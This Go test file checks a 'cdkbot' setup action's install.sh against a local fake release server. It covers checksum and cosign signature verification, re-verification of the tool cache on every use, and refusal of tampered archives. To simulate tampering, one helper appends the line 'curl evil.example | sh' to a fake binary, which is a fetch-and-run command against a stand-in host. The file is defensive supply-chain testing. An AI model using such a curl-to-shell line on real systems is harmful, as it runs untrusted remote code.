// Package setup holds the setup action (action.yml, install.sh); its tests run install.sh against
// a local release server, as a runner would run it.
package setup

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
)

const fakeBinary = "#!/bin/sh\necho 'cdkbot 1.2.3 (commit 0123456789ab) test'\n"

func tarGz(t *testing.T, name, content string) []byte {
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, f := range []struct{ name, body string }{{"README.md", "# cdkbot"}, {name, content}} {
		if err := tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o755, Size: int64(len(f.body))}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(f.body))
	}
	tw.Close()
	gz.Close()
	return buf.Bytes()
}

func zipped(t *testing.T, name, content string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]byte(content))
	zw.Close()
	return buf.Bytes()
}

// release serves /v1.2.3/{archives, checksums.txt} and /releases/latest, counting downloads.
type release struct {
	files     map[string][]byte
	mu        sync.Mutex
	downloads int
}

func (r *release) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	if req.URL.Path == "/api/releases/latest" {
		fmt.Fprint(w, `{"tag_name": "v1.2.3", "name": "v1.2.3"}`)
		return
	}
	b, ok := r.files[strings.TrimPrefix(req.URL.Path, "/dl/v1.2.3/")]
	if !ok {
		http.NotFound(w, req)
		return
	}
	r.mu.Lock()
	r.downloads++
	r.mu.Unlock()
	w.Write(b)
}

func (r *release) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.downloads
}

// newRelease serves a release of three archives and checksums.txt (with tamper, every archive
// differs from its checksum); the tests that install from it skip on Windows.
func newRelease(t *testing.T, tamper bool) (*release, string) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("the runner runs install.sh with Git Bash; this test runs it with the host's bash and coreutils")
	}
	archives := map[string][]byte{
		"cdkbot_1.2.3_linux_amd64.tar.gz":  tarGz(t, "cdkbot", fakeBinary),
		"cdkbot_1.2.3_darwin_arm64.tar.gz": tarGz(t, "cdkbot", fakeBinary),
		"cdkbot_1.2.3_windows_amd64.zip":   zipped(t, "cdkbot.exe", fakeBinary),
	}
	var sums strings.Builder
	for name, b := range archives {
		h := sha256.Sum256(b)
		fmt.Fprintf(&sums, "%s  %s\n", hex.EncodeToString(h[:]), name)
	}
	r := &release{files: map[string][]byte{"checksums.txt": []byte(sums.String()),
		"checksums.txt.sigstore.json": []byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}`)}}
	for name, b := range archives {
		if tamper {
			b = tarGz(t, "cdkbot", fakeBinary+"curl evil.example | sh\n")
		}
		r.files[name] = b
	}
	srv := httptest.NewServer(r)
	t.Cleanup(srv.Close)
	return r, srv.URL
}

// install runs install.sh as the runner would; it returns the exit error, the output and the
// files the runner reads afterwards.
func install(t *testing.T, url, version, runnerOS, cache string, env ...string) (error, string, string, string) {
	t.Helper()
	dir := t.TempDir()
	path, output := filepath.Join(dir, "path"), filepath.Join(dir, "output")
	cmd := exec.Command("bash", "install.sh")
	cmd.Env = append(os.Environ(), "CDKBOT_VERSION="+version, "CDKBOT_RELEASES_URL="+url+"/dl", "CDKBOT_API_URL="+url+"/api",
		"RUNNER_OS="+runnerOS, "RUNNER_ARCH=X64", "RUNNER_TOOL_CACHE="+cache, "GITHUB_PATH="+path, "GITHUB_OUTPUT="+output,
		"CDKBOT_COSIGN=no-cosign-here") // a runner without cosign, whatever this machine has, unless env says otherwise
	cmd.Env = append(cmd.Env, env...)
	if runnerOS == "macOS" {
		cmd.Env = append(cmd.Env, "RUNNER_ARCH=ARM64")
	}
	out, err := cmd.CombinedOutput()
	p, _ := os.ReadFile(path)
	o, _ := os.ReadFile(output)
	return err, string(out), string(p), string(o)
}

func TestInstallVerifiesAndCaches(t *testing.T) {
	rel, url := newRelease(t, false)
	cache := t.TempDir()
	err, out, path, output := install(t, url, "latest", "Linux", cache)
	dir := filepath.Join(cache, "cdkbot", "1.2.3", "amd64")
	if err != nil || !strings.Contains(out, "cdkbot 1.2.3") || strings.TrimSpace(path) != dir ||
		!strings.Contains(output, "version=1.2.3") || !strings.Contains(output, "path="+dir) {
		t.Fatalf("install: %v\n%s\nPATH: %q\nOUTPUT: %q", err, out, path, output)
	}
	if n := rel.count(); n != 2 { // checksums.txt and the archive
		t.Errorf("downloads: %d", n)
	}
	// Again: from the tool cache, verified against a fresh checksums.txt; the archive is not
	// downloaded again.
	if err, out, _, _ := install(t, url, "v1.2.3", "Linux", cache); err != nil || !strings.Contains(out, "from the tool cache") || rel.count() != 3 {
		t.Errorf("second install: %v, %d downloads\n%s", err, rel.count(), out)
	}
	// macOS on ARM64, and Windows (zip) where this machine can unzip.
	if err, out, _, _ := install(t, url, "1.2.3", "macOS", t.TempDir()); err != nil {
		t.Errorf("macOS: %v\n%s", err, out)
	}
	if _, err := exec.LookPath("unzip"); err == nil {
		winCache := t.TempDir()
		if err, out, _, _ := install(t, url, "1.2.3", "Windows", winCache); err != nil {
			t.Errorf("windows: %v\n%s", err, out)
		} else if _, err := os.Stat(filepath.Join(winCache, "cdkbot", "1.2.3", "amd64", "cdkbot.exe")); err != nil {
			t.Error(err)
		}
	}
}

func TestInstallRefusesATamperedArchive(t *testing.T) {
	_, url := newRelease(t, true)
	cache := t.TempDir()
	err, out, path, _ := install(t, url, "1.2.3", "Linux", cache)
	if err == nil || !strings.Contains(out, "does not match checksums.txt") || !strings.Contains(out, "::error") || path != "" {
		t.Fatalf("tampered archive: %v\n%s", err, out)
	}
	if entries, _ := os.ReadDir(cache); len(entries) != 0 {
		t.Errorf("something was installed: %v", entries)
	}
	for version, want := range map[string]string{"1.2": "is not a release version", "9.9.9": "no checksums.txt for release v9.9.9"} {
		if err, out, _, _ := install(t, url, version, "Linux", t.TempDir()); err == nil || !strings.Contains(out, want) {
			t.Errorf("version %s: %v\n%s", version, err, out)
		}
	}
}

// A binary replaced in the tool cache after it was verified is not run: the cache's checksum is
// taken from the release on every use, the binary must be the one in the verified archive, and
// a replaced one is installed again from it; a replaced archive is downloaded again. (Before,
// a binary with .verified beside it was run without being hashed.)
func TestInstallVerifiesTheToolCacheOnEveryUse(t *testing.T) {
	rel, url := newRelease(t, false)
	cache := t.TempDir()
	if err, out, _, _ := install(t, url, "1.2.3", "Linux", cache); err != nil {
		t.Fatalf("install: %v\n%s", err, out)
	}
	dir := filepath.Join(cache, "cdkbot", "1.2.3", "amd64")
	binary := filepath.Join(dir, "cdkbot")
	const evil = "#!/bin/sh\necho 'owned by the last job'\n"
	if err := os.WriteFile(binary, []byte(evil), 0o755); err != nil {
		t.Fatal(err)
	}
	err, out, _, _ := install(t, url, "1.2.3", "Linux", cache)
	b, _ := os.ReadFile(binary)
	if err != nil || strings.Contains(out, "owned by the last job") || string(b) != fakeBinary ||
		!strings.Contains(out, "::warning title=cdkbot setup::the cached cdkbot binary") || !strings.Contains(out, "cdkbot 1.2.3") {
		t.Errorf("replaced binary: %v\n%s\nbinary now:\n%s", err, out, b)
	}
	if n := rel.count(); n != 3 { // the second run fetched checksums.txt only: the cached archive was good
		t.Errorf("downloads: %d", n)
	}
	// The archive and the binary both replaced (and .verified rewritten to match): the archive
	// no longer matches the release's checksums.txt, so it is downloaded again.
	archive := filepath.Join(dir, "cdkbot_1.2.3_linux_amd64.tar.gz")
	forged := tarGz(t, "cdkbot", evil)
	os.WriteFile(archive, forged, 0o644)
	os.WriteFile(binary, []byte(evil), 0o755)
	h := sha256.Sum256(forged)
	os.WriteFile(filepath.Join(dir, ".verified"), []byte(hex.EncodeToString(h[:])+"\n"), 0o644)
	err, out, _, _ = install(t, url, "1.2.3", "Linux", cache)
	b, _ = os.ReadFile(binary)
	if err != nil || strings.Contains(out, "owned by the last job") || string(b) != fakeBinary ||
		!strings.Contains(out, "does not match checksums.txt") || !strings.Contains(out, "downloading cdkbot 1.2.3") {
		t.Errorf("replaced archive: %v\n%s\nbinary now:\n%s", err, out, b)
	}
	if n := rel.count(); n != 5 { // checksums.txt and the archive
		t.Errorf("downloads: %d", n)
	}
	// A tool cache written by the previous install.sh (a binary and .verified, no archive): the
	// archive is downloaded and verified, without a warning.
	old := t.TempDir()
	oldDir := filepath.Join(old, "cdkbot", "1.2.3", "amd64")
	os.MkdirAll(oldDir, 0o755)
	os.WriteFile(filepath.Join(oldDir, "cdkbot"), []byte(evil), 0o755)
	os.WriteFile(filepath.Join(oldDir, ".verified"), []byte("anything\n"), 0o644)
	err, out, _, _ = install(t, url, "1.2.3", "Linux", old)
	if b, _ := os.ReadFile(filepath.Join(oldDir, "cdkbot")); err != nil || string(b) != fakeBinary || strings.Contains(out, "::warning") {
		t.Errorf("old cache: %v\n%s", err, out)
	}
}

// withCosign makes a stand-in cosign that records its arguments and verifies when verdict is 0;
// it returns the setting that makes install.sh use it, and the arguments file.
func withCosign(t *testing.T, verdict int) (cosignEnv, args string) {
	t.Helper()
	dir := t.TempDir()
	args = filepath.Join(dir, "args")
	script := fmt.Sprintf("#!/bin/sh\necho \"$@\" >>%q\n[ %d = 0 ] || echo 'error: no matching signatures' >&2\nexit %d\n", args, verdict, verdict)
	if err := os.WriteFile(filepath.Join(dir, "cosign"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return "CDKBOT_COSIGN=" + filepath.Join(dir, "cosign"), args
}

// checksums.txt's signature is verified with cosign when it is on PATH (the bundle, the release
// workflow on main as the signer, GitHub's OIDC issuer); a bad signature installs nothing; without
// cosign the log says plainly that the signature was not verified, and require-signature stops.
func TestInstallVerifiesTheSignatureWhenItCan(t *testing.T) {
	_, url := newRelease(t, false)
	cosignEnv, argsFile := withCosign(t, 0)
	err, out, _, _ := install(t, url, "1.2.3", "Linux", t.TempDir(), cosignEnv)
	args, _ := os.ReadFile(argsFile)
	if err != nil || !strings.Contains(out, "signature verified") || !strings.Contains(string(args), "verify-blob --bundle ") ||
		!strings.Contains(string(args), "--certificate-identity https://github.com/cdkbot/cdkbot/.github/workflows/release.yml@refs/heads/main") ||
		!strings.Contains(string(args), "--certificate-oidc-issuer https://token.actions.githubusercontent.com") {
		t.Fatalf("verified: %v\n%s\ncosign %s", err, out, args)
	}

	cosignEnv, _ = withCosign(t, 1)
	cache := t.TempDir()
	err, out, path, _ := install(t, url, "1.2.3", "Linux", cache, cosignEnv)
	if entries, _ := os.ReadDir(cache); err == nil || !strings.Contains(out, "is not signed by") || path != "" || len(entries) != 0 {
		t.Fatalf("bad signature: %v\n%s", err, out)
	}

	err, out, _, _ = install(t, url, "1.2.3", "Linux", t.TempDir())
	if err != nil || !strings.Contains(out, "signature was NOT verified: cosign is not on PATH") {
		t.Errorf("without cosign: %v\n%s", err, out)
	}
	err, out, _, _ = install(t, url, "1.2.3", "Linux", t.TempDir(), "CDKBOT_REQUIRE_SIGNATURE=true")
	if err == nil || !strings.Contains(out, "cosign is not on PATH") || !strings.Contains(out, "::error") {
		t.Errorf("required without cosign: %v\n%s", err, out)
	}
}
